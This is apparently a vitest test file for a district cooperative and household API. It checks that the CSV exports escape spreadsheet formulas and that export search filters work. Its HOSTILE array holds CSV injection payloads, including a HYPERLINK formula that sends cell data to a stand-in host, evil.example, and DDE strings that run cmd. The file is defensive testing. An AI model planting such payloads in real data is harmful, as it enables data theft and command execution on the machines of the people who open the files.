import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  newCommune,
  newHousehold,
  newZone,
  plotBody,
  randomSpot,
  rectangle,
  uniqueCode,
} from './support/factories.js';
import { ExportService } from '../src/district/exports/export.service.js';
import { startTestApp, type TestApp } from './support/test-app.js';

/** Names a spreadsheet would run as formulas, typed into every field that reaches an export. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")',
  '+SUM(1,2)',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
];
/** Every export the API offers. */
const SHEETS = ExportService.NAMES;

let api: TestApp;

beforeAll(async () => {
  api = await startTestApp();
  const commune = await newCommune(api, HOSTILE[1]);
  for (const name of HOSTILE) {
    const cooperative = await api.post('/cooperatives', {
      name,
      registrationNumber: uniqueCode('HTX'),
      communeId: commune.id,
    });
    expect(cooperative.status, JSON.stringify(cooperative.body)).toBe(201);
    const household = await newHousehold(api, commune.id, cooperative.body.id);
    await api.patch(`/households/${household.id}`, { headName: name });
    await api.post('/households', {
      headName: name,
      idNumber: `030${String(Math.floor(Math.random() * 1e9)).padStart(9, '0')}`,
      phone: '0912345678',
      communeId: commune.id,
      cooperativeId: cooperative.body.id,
      joinedOn: '2020-03-01',
    });
    await api.post('/plots', plotBody(household.id, rectangle(randomSpot(), 40, 40)));
    await newZone(api, commune.id, rectangle(randomSpot(), 300, 300), { name });
  }
});
afterAll(() => api.close());

/** The cells of a CSV file as a spreadsheet reads them (RFC 4180 quoting). */
function cells(csv: string): string[] {
  const out: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < csv.length; i++) {
    const c = csv[i]!;
    if (quoted) {
      if (c === '"' && csv[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',' || c === '\n') {
      out.push(cell);
      cell = '';
    } else if (c !== '\r') cell += c;
  }
  return out;
}

describe('exports', () => {
  it('never hands a spreadsheet a formula: hostile names are written as text in every CSV', async () => {
    let seen = 0;
    for (const sheet of SHEETS) {
      const year = sheet === 'targets' || sheet === 'inspections' ? '?year=2026' : '';
      const response = await api.get(`/exports/${sheet}.csv${year}`);
      expect(response.status, `${sheet}: ${JSON.stringify(response.body)}`).toBe(200);
      for (const cell of cells(String(response.body).replace(/^\uFEFF/, ''))) {
        expect(/^[=+@\t\r]/.test(cell) || /^-[^\d]/.test(cell), `${sheet}: ${cell}`).toBe(false);
        if (HOSTILE.some((h) => cell === `'${h}`)) seen++;
      }
    }
    // The names did reach the exports (zones, cooperatives, households at least).
    expect(seen).toBeGreaterThanOrEqual(HOSTILE.length * 3);
  });

  it('holds the rows the list shows: its search applies to the file too', async () => {
    const code = uniqueCode('HTX');
    const commune = await newCommune(api);
    const made = await api.post('/cooperatives', {
      name: `HTX Xuất Riêng ${code}`,
      registrationNumber: code,
      communeId: commune.id,
    });
    expect(made.status).toBe(201);
    const searched = await api.get(`/exports/cooperatives.csv?q=${encodeURIComponent(code)}`);
    expect(searched.status).toBe(200);
    const lines = String(searched.body).trim().split('\n');
    expect(lines).toHaveLength(2);
    expect(lines[1]).toContain(code);
    const all = await api.get('/exports/cooperatives.csv');
    expect(String(all.body).trim().split('\n').length).toBeGreaterThan(2);
  });
});
